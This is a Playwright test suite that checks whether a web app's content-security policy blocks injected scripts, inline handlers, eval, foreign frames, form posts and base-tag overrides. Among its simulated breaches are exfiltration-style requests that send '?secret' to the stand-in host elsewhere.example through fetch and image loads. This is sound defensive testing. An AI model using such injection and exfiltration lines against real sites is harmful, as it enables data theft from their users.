// The content-security policy, broken on purpose: it stops everything, and the browser reports it.
import type { Page } from '@playwright/test';
import { expect } from './fixtures/test.ts';
import { anyOf, FORBIDDEN } from './fixtures/browser.ts';
import { test } from './fixtures/hosts.ts';
import { LLAMA, RESNET_50 } from './fixtures/links.ts';

const FOREIGN = 'https://elsewhere.example';

// The browser logs what it forbids, and so does the watch of every test.
test.use({ allowed: anyOf(FORBIDDEN, /^content-security policy: |elsewhere\.example/) });

/** Attacks by somebody who could write into the page, each with the directive that has to stop it. */
const BREACHES: { what: string; directive: string; breach: () => void }[] = [
  {
    what: 'an inline script',
    directive: 'script-src-elem',
    breach: () => {
      document.body.append(
        Object.assign(document.createElement('script'), { textContent: 'document.documentElement.dataset.harm = 1' }),
      );
    },
  },
  {
    what: 'a handler in the markup',
    directive: 'script-src-attr',
    breach: () => {
      const made = document.createElement('button');
      made.setAttribute('onclick', 'document.documentElement.dataset.harm = 1');
      document.body.append(made);
      made.click();
    },
  },
  {
    what: 'a javascript: address',
    directive: 'script-src-elem',
    breach: () => {
      const made = Object.assign(document.createElement('a'), { href: 'javascript:document.documentElement.dataset.harm=1' });
      document.body.append(made);
      made.click();
    },
  },
  {
    what: 'eval',
    directive: 'script-src',
    // Later, because calls made by a test itself are allowed.
    breach: () => {
      setTimeout(() => {
        try {
          (0, eval)('document.documentElement.dataset.harm = 1');
        } catch {
          /* forbidden */
        }
      });
    },
  },
  {
    what: 'a script of another host',
    directive: 'script-src-elem',
    breach: () => {
      document.body.append(Object.assign(document.createElement('script'), { src: 'https://elsewhere.example/x.js' }));
    },
  },
  {
    what: 'an inline style sheet',
    directive: 'style-src-elem',
    breach: () => {
      document.body.append(Object.assign(document.createElement('style'), { textContent: 'html { opacity: 0.5 }' }));
    },
  },
  {
    what: 'a style in the markup',
    directive: 'style-src-attr',
    breach: () => {
      document.documentElement.setAttribute('style', 'opacity: 0.5');
    },
  },
  {
    what: 'a question to another host',
    directive: 'connect-src',
    breach: () => {
      fetch('https://elsewhere.example/?secret').catch(() => {});
    },
  },
  {
    what: 'a picture of another host',
    directive: 'img-src',
    breach: () => {
      document.body.append(Object.assign(document.createElement('img'), { src: 'https://elsewhere.example/?secret' }));
    },
  },
  {
    what: 'a frame of another host',
    directive: 'frame-src',
    breach: () => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.example/' }));
    },
  },
  {
    what: 'a form sent to another host',
    directive: 'form-action',
    breach: () => {
      const made = Object.assign(document.createElement('form'), { action: 'https://elsewhere.example/' });
      document.body.append(made);
      made.submit();
    },
  },
  {
    what: 'another base of all addresses',
    directive: 'base-uri',
    breach: () => {
      document.head.prepend(Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' }));
    },
  },
];

/** Runs an attack, and returns the directive that stopped it. */
async function violated(page: Page, breach: () => void) {
  const heard = await page.evaluateHandle(() => ({
    directive: new Promise<string>((resolve) => {
      addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
    }),
  }));
  await page.evaluate(breach);
  return heard.evaluate(({ directive }) => directive);
}

for (const { name, host } of [
  { name: 'by the meta tag alone', host: 'a plain file server' },
  { name: 'with headers', host: 'nginx, by its recipe' },
] as const) {
  test.describe(name, () => {
    test.use({ host });

    for (const { where, address } of [
      { where: 'the page', address: `./#${LLAMA}` },
      { where: 'the card', address: `./embed.html#${LLAMA}` },
    ]) {
      test(`nothing foreign runs, loads or is requested in ${where}`, async ({ page, context, baseURL }) => {
        const requests: string[] = [];
        page.on('response', (response) => requests.push(response.url()));
        await context.route(`${FOREIGN}/**`, (route) => {
          requests.push(route.request().url());
          return route.fulfill({
            headers: { 'access-control-allow-origin': '*' },
            contentType: 'text/javascript',
            body: 'document.documentElement.dataset.harm = 1',
          });
        });
        await page.goto(address);
        await expect(page.locator('body')).toContainText('8.4 × 10²³ FLOP');
        for (const { what, directive, breach } of BREACHES) {
          await test.step(what, async () => {
            expect(await violated(page, breach)).toBe(directive);
          });
        }
        expect(
          await page.evaluate(() => [
            document.documentElement.dataset.harm,
            getComputedStyle(document.documentElement).opacity,
            document.baseURI,
          ]),
        ).toEqual([undefined, '1', page.url()]);
        expect(requests.filter((url) => !url.startsWith(baseURL!))).toEqual([]);
      });
    }
  });
}

test.describe('a worker, with headers', () => {
  test.use({ allowed: anyOf(FORBIDDEN, /^content-security policy: |elsewhere\.example|^https:\/\/huggingface\.co\//) });

  test('asks huggingface.co and no other host, and evaluates no text', async ({ calculator, context, page }) => {
    const requests: string[] = [];
    await context.route(/^https:/, (route) => {
      requests.push(route.request().url());
      return route.fulfill({ headers: { 'access-control-allow-origin': '*' }, contentType: 'application/json', body: '{}' });
    });
    const started = page.waitForEvent('worker');
    await calculator.openCleared();
    await calculator.openFiles();
    await expect(page.locator('#hub')).toBeVisible();
    const worker = await started;
    const tried = await worker.evaluate(async () => {
      const ask = (url: string) =>
        fetch(url).then(
          () => 'answered',
          () => 'refused',
        );
      const evaluated = new Promise((resolve) =>
        setTimeout(() => {
          try {
            resolve((0, eval)('1'));
          } catch (error) {
            resolve((error as Error).name);
          }
        }),
      );
      return [
        await ask('https://huggingface.co/x'),
        await ask('https://elsewhere.example/?secret'),
        await ask('https://cdn.huggingface.co/'),
        await evaluated,
      ];
    });
    expect(tried).toEqual(['answered', 'refused', 'refused', 'EvalError']);
    expect(requests).toEqual(['https://huggingface.co/x']);
  });
});
